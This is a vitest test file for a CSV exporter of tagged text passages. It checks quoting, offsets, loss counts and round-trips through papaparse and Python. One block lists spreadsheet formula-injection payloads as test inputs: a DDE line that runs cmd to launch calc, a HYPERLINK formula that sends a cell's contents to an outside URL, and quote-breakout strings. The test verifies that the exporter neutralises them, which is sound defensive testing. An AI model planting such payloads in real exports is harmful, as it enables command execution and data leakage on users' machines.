import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import type { Bundle } from '../../../shared/export/bundle';
import { csv } from '../../../shared/export/csv';
import { neutralised, restored } from '../../../shared/export/tables/table';
import { tagColumns } from '../../../shared/export/tables/tagTable';
import { lossCounts } from '../../support/lossCounts';
import { sampleBundle } from '../../support/sampleBundle';

const bundle = sampleBundle();
const rendered = csv.render(bundle);

/** Reads a CSV as papaparse does: another program's reading of RFC 4180. */
function parsed(text: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(text.slice(1), { delimiter: ',' });
  expect(errors).toEqual([]);
  expect(data.at(-1)).toEqual(['']);
  return data.slice(0, -1);
}

function column(name: (typeof tagColumns)[number], text = rendered): string[] {
  return parsed(text)
    .slice(1)
    .map((row) => row[tagColumns.indexOf(name)] ?? '');
}

/** The bundle with these notes, a tag for each. */
function withNotes(notes: readonly string[]): Bundle {
  const [tag] = bundle.tags;
  if (!tag) throw new Error('The sample has no tag.');
  return { ...bundle, tags: notes.map((note, index) => ({ ...tag, id: String(index), note })) };
}

test('The file starts with a byte order mark and the header, and every row ends with CRLF', () => {
  expect(rendered.startsWith('\uFEFF"reading_id","reading_title",')).toBe(true);
  expect(rendered.endsWith('"\r\n')).toBe(true);
  expect(parsed(rendered)[0]).toEqual([...tagColumns]);
});

test('There is one row for each tag, in the order of the readings and of the text', () => {
  expect(column('tag_id')).toEqual(bundle.tags.map((tag) => tag.id));
  expect(parsed(rendered).every((row) => row.length === tagColumns.length)).toBe(true);
});

test('Quotes, notes, titles and outlets come back exactly', () => {
  const byId = new Map(bundle.readings.map((reading) => [reading.id, reading]));
  const readings = bundle.tags.map((tag) => byId.get(tag.reading));
  expect(column('quote').map(restored)).toEqual(bundle.tags.map((tag) => tag.quote));
  expect(column('note').map(restored)).toEqual(bundle.tags.map((tag) => tag.note ?? ''));
  expect(column('reading_title').map(restored)).toEqual(readings.map((one) => one?.title));
  expect(column('outlet').map(restored)).toEqual(readings.map((one) => one?.outlet ?? ''));
});

test('Offsets slice the quote out of the text, in UTF-16 units and in code points', () => {
  const texts = new Map(bundle.readings.map((reading) => [reading.id, reading.content]));
  const numbers = (name: (typeof tagColumns)[number]) => column(name).map(Number);
  const [starts, ends] = [numbers('start'), numbers('end')];
  const [pointStarts, pointEnds] = [numbers('start_code_point'), numbers('end_code_point')];
  bundle.tags.forEach((tag, row) => {
    const text = texts.get(tag.reading) ?? '';
    expect(text.slice(starts[row], ends[row])).toBe(tag.quote);
    expect([...text].slice(pointStarts[row], pointEnds[row]).join('')).toBe(tag.quote);
  });
  expect(pointStarts).not.toEqual(starts);
});

test('Each further place of the words slices them out too, in both units', () => {
  const content = bundle.readings[0]?.content ?? '';
  const slices = (cell: string, of: string | readonly string[]) =>
    cell
      .split(' ')
      .filter(Boolean)
      .map((place) => place.split('..').map(Number))
      .map(([start, end]) => [...of.slice(start, end)].join(''));
  const rows = column('also_at').map((cell) => slices(cell, content));
  const pointRows = column('also_at_code_point').map((cell) => slices(cell, [...content]));
  expect(rows).toEqual(
    bundle.tags.map(({ places }) =>
      places.slice(1).map(({ start, end }) => content.slice(start, end)),
    ),
  );
  expect(pointRows).toEqual(rows);
  expect(rows.filter((row) => row.length > 0).map(([words]) => words)).toEqual([
    'UNDER section 12 of the Ports Act,  a camera may stand only where a danger has been shown, and the quay is filmed day and night',
    'a danger has been shown',
    'the quay is filmed day and night, children included',
  ]);
  expect(column('also_at')).not.toEqual(column('also_at_code_point'));
});

test('Texts and unknown facts are quoted, numbers are not', () => {
  const [, row = ''] = csv.render(withNotes(['plain'])).split('\r\n');
  expect(row).toContain(',"supports",76,131,76,131,"","","2025-');
  expect(csv.render({ ...bundle, tags: bundle.tags.slice(-1) })).toContain(
    'policy","","\'@quayside"',
  );
});

test('A tag or reviewer that the bundle does not name stands there by its id', () => {
  const nameless = csv.render({ ...bundle, codes: [], reviewers: [] });
  expect(column('tag_name', nameless)).toEqual(bundle.tags.map((tag) => tag.code));
  expect(column('reviewer', nameless)).toEqual(bundle.tags.map((tag) => tag.reviewer));
});

test('A bundle without tags is a header and nothing else', () => {
  expect(parsed(csv.render({ ...bundle, tags: [] }))).toEqual([[...tagColumns]]);
});

test('A tag whose reading is not in the bundle is refused', () => {
  expect(() => csv.render({ ...bundle, readings: [] })).toThrow(RangeError);
});

test('What the table leaves behind is counted', () => {
  expect(lossCounts(csv.loses(bundle))).toEqual([
    { what: 'Full texts of readings', of: 'readings', how: 'changed', count: 3 },
    { what: 'Readings without a tag', of: 'readings', how: 'dropped', count: 1 },
    { what: 'Block structure of readings', of: 'readings', how: 'changed', count: 3 },
    {
      what: 'Languages, file names and import details of readings',
      of: 'readings',
      how: 'changed',
      count: 3,
    },
    {
      what: 'Definitions and looks of tags in the codebook',
      of: 'codes',
      how: 'changed',
      count: 5,
    },
    {
      what: 'Which tag of the codebook stands below which',
      of: 'codes',
      how: 'changed',
      count: 1,
    },
    { what: 'Codebook entries that no passage carries', of: 'codes', how: 'dropped', count: 1 },
    { what: 'Words around each passage', of: 'tags', how: 'changed', count: 9 },
  ]);
});

describe('Cells that a spreadsheet would take for formulas', () => {
  const active = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
  const attacks = [
    ...active.map((start) => `${start}1+1`),
    ...active,
    '=HYPERLINK("https://example.org?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '",=1+1',
    '"\r\n=1+1',
    '=1+1";=1+1',
  ];

  test.each(attacks)('%j is no formula in any cell, and comes back', (attack) => {
    const text = csv.render(withNotes([attack]));
    for (const cell of parsed(text).flat()) {
      expect(active.some((start) => cell.startsWith(start))).toBe(false);
    }
    expect(column('note', text).map(restored)).toEqual([attack]);
  });

  test.each(["'tis", '’=1', '1+1', ' a', '', "it's = 1", 'a\n=1', "''"])(
    '%j is left as it is',
    (text) => {
      expect(neutralised(text)).toBe(text);
      expect(restored(text)).toBe(text);
    },
  );

  test('A real apostrophe before such a character stays distinguishable from an added one', () => {
    expect(['=1', "'=1", "''=1"].map(neutralised)).toEqual(["'=1", "''=1", "'''=1"]);
  });

  test('Whatever the text, the cell starts with no active character and restores to the text', () => {
    const start = fc.array(fc.constantFrom("'", '"', ' ', 'a', ...active), { maxLength: 6 });
    const cell = fc.tuple(start, fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(cell, ([first, rest]) => {
        const text = first.join('') + rest;
        const safe = neutralised(text);
        return !active.some((one) => safe.startsWith(one)) && restored(safe) === text;
      }),
      { numRuns: 2000 },
    );
  });
});

describe('Other programs', () => {
  const part = fc.constantFrom(
    '"',
    '""',
    ',',
    ';',
    '\n',
    '\r\n',
    '\r',
    '\t',
    "'",
    '=',
    'é',
    '\u{1f41f}',
    'word ',
  );
  const notes = fc
    .sample(fc.array(part, { maxLength: 12 }), { numRuns: 1000, seed: 7 })
    .map((parts) => parts.join(''));
  const thousand = csv.render(withNotes(notes));

  test('papaparse reads back a thousand rows of line breaks, quotation marks and semicolons', () => {
    expect(column('note', thousand).map(restored)).toEqual(notes);
  });

  const python = spawnSync('python3', ['-c', 'import csv']).status === 0;

  test.skipIf(!python)('Python’s csv module reads back the same thousand rows', () => {
    const program = [
      'import csv, io, json, sys',
      "text = sys.stdin.buffer.read().decode('utf-8-sig')",
      "json.dump(list(csv.reader(io.StringIO(text, newline=''), strict=True)), sys.stdout)",
    ].join('\n');
    const run = spawnSync('python3', ['-c', program], { input: thousand, encoding: 'utf8' });
    expect(run.stderr).toBe('');
    expect(JSON.parse(run.stdout)).toEqual(parsed(thousand));
  });
});
